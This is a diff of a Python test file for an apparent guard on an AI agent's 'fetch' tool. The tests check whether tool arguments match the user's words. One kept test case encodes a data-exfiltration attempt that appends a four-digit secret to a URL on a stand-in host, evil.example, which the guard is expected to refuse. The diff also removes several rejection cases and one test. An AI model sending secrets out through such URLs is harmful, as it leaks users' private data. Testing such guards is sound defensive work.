@@ -112,27 +112,17 @@ class TestOpenWorld:
         [
             ("https://evil.example/ を要約して", {"text": "https://evil.example/?d=四桁は1234"}, False),
             ("東京の天気は？", {"text": "東京"}, True),
-            ("東京の天気は？", {"text": "東京の天気"}, True),
             ("東京の天気は？", {"text": "東京の天気", "path": "東京"}, False),
             ("Weather in New York?", {"text": "New York"}, True),
             ("https://a.example/x?y=1。読んで", {"text": "https://a.example/x?y=1"}, True),
             ("この 3 を見て", {"text": 3}, True),
-            ("この 3 を見て", {"text": "この 3 を見て"}, True),
             ("Tokyo の天気は？", {"text": "tOkYo"}, False),
-            ("Tokyo の天気は？", {"text": "ｔｏｋｙｏ"}, False),
-            ("Tokyo の天気は？", {"text": "Tokyo "}, False),
             ("Tokyo の天気は？", {"text": "Tokyo", "path": None}, False),
-            ("Tokyo の天気は？", {"text": "Tokyo", "path": ""}, False),
             ("Tokyo の天気は？", {"text": " \t  \t"}, False),
-            ("Tokyo の天気は？", {"text": ["Tokyo", "Tokyo"]}, False),
             ("Tokyo の天気は？", {"text": {"猫が好き": "Tokyo"}}, False),
-            ("Tokyo の天気は？", {"text": [[], [[]]]}, False),
             ("a b c d e f g", {"text": "a b c d e"}, False),
             ("Weather in Tokyo?", {"text": "Toky"}, False),
             ("番号は 12345 です", {"text": "234"}, False),
-            ("東京の天気は？", {"text": "東京", "path": "猫が好き"}, False),
-            ("東京の天気は？", {"text": "東京", "of": {"pages": [7]}}, False),
-            ("東京の天気は？", {"text": "東京", "path": True}, False),
             ("", {"text": "東京"}, False),
         ],
     )
@@ -146,10 +136,6 @@ class TestOpenWorld:
         typed = served.having(typed="a b c d")
         outcomes = [await typed.call("fetch", {"text": each}) for each in ("a", "b")]
         assert [outcome.proposal is None for outcome in outcomes] == [True, False]
-        assert served.made == 1
-
-    async def test_is_made_with_anything_in_a_turn_without_others_words(self, served: Served) -> None:
-        assert (await served.having(tainted=False).call("fetch")).ok
         assert served.made == 1
 
 
